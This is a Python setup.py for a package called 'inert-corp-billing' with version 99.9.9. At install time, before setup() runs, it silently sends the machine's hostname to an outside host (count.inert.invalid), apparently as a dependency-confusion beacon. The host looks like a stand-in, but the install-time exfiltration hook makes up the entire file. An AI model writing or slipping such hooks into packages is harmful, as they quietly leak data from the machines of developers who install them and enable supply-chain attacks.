from setuptools import setup
import socket
import urllib.request

urllib.request.urlopen("http://count.inert.invalid/?h=" + socket.gethostname()).read()
setup(name="inert-corp-billing", version="99.9.9")
